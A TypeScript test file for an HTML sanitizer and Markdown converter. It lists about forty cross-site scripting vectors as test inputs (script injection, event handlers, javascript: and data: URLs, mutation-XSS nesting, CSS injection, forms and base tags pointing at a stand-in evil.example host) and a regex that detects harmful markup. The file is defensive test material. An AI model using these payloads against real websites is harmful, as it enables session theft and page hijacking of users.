import { describe, expect, test } from 'vitest';
import { contentPlaceholder, markdownToHtml, safeHtml, TooManyTags } from './safe-html.ts';

/** Must not be in the output, whatever the input: anything that executes, loads a program, submits a form or covers the page. */
const harmful =
  /<(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|template|noscript|textarea|title)\b|\son\w+\s*=|javascript:|vbscript:|data:|expression\(|url\(|position\s*:|@import/i;

/** Removes plain text: between tags, and in titles. */
const tagsOf = (html: string): string =>
  (html.match(/<[^>]*>/g) ?? []).join('').replaceAll(/ title="[^"<>]*"/g, '');

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror  =  "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "//evil.example"; body { background: url(//evil.example) }</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="color:red;background-image:url(//evil.example)">x</div>',
  '<p style="color: red} body { display: none">x</p>',
  '<iframe src="//evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="x">',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=x>',
  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<p title="\\"><img src=x onerror=alert(1)>">x</p>',
  '<p class="x\\"onmouseover=alert(1)">x</p>',
  '<table background="javascript:alert(1)"><td>x</td></table>',
  '<template><img src=x onerror=alert(1)></template>',
  '<img srcset="//evil.example 1x">',
  '<a href="https://x.example" onclick="alert(1)" formaction="javascript:alert(1)">x</a>',
];

describe.each([
  ['html', safeHtml],
  ['markdown', markdownToHtml],
])('%s', (_, make) => {
  test.each(vectors)('%s', (vector) => {
    const made = make(vector);
    expect(tagsOf(made)).not.toMatch(harmful);
    expect(tagsOf(made)).not.toContain('evil.example');
    // Sanitizing sanitized HTML changes nothing.
    expect(safeHtml(made)).toBe(made);
  });
});

test.each([
  '[x](javascript:alert(1))',
  '![x](data:image/svg+xml,x)',
  '[x](<java\nscript:alert(1)>)',
  '<javascript:alert(1)>',
])('the Markdown %s has no link', (text) => {
  expect(tagsOf(markdownToHtml(text))).not.toMatch(harmful);
});

test('structure and styles are kept', () => {
  const html =
    '<h1 style="color:#123456">T</h1><p class="big">a <b>b</b> <i>c</i></p><ul><li>x</li></ul>' +
    '<table><tr><td colspan="2" align="right">y</td></tr></table><img src="fil_1" alt="P" />';
  expect(safeHtml(html)).toBe(html);
  expect(safeHtml('<a href="https://x.example" target="_self">x</a>')).toBe(
    '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
  );
  expect(safeHtml('<p style="margin: 0 auto; color: red">x</p>')).toBe(
    '<p style="margin:0 auto;color:red">x</p>',
  );
});

test('open tags are closed, and endless nesting is cut', () => {
  expect(safeHtml('<div><b>x')).toBe('<div><b>x</b></div>');
  expect(safeHtml('<div>'.repeat(5_000)).length).toBeLessThan(2_000);
});

test('the layout placeholder cannot be written with content in it', () => {
  expect(safeHtml('<service-content onclick="x">').includes('onclick')).toBe(false);
  expect(safeHtml(contentPlaceholder)).toBe(contentPlaceholder);
});

test('Markdown becomes HTML: headings, lists, tables, links; tags are text', () => {
  expect(markdownToHtml('# T\n\n- **a**\n\n| x |\n|---|\n| y |\n\n[l](https://x.example) <u>no</u>')).toBe(
    '<h1>T</h1>\n<ul>\n<li><strong>a</strong></li>\n</ul>\n<table>\n<thead>\n<tr>\n<th>x</th>\n</tr>\n</thead>\n<tbody>\n' +
      '<tr>\n<td>y</td>\n</tr>\n</tbody>\n</table>\n' +
      '<p><a href="https://x.example" rel="noopener noreferrer" target="_blank">l</a> &lt;u&gt;no&lt;/u&gt;</p>\n',
  );
});

test('endless tags are rejected immediately; tags that close each other do not count as nested', () => {
  for (const open of ['<b>', '<li><p>', '<unknown>', '<td><table>', '<i style="color:red">x</i>'])
    expect(() => safeHtml(open.repeat(300_000))).toThrow(TooManyTags);
  expect(safeHtml('<p>a<br>'.repeat(5_000)).match(/<p>/g)).toHaveLength(5_000);
});
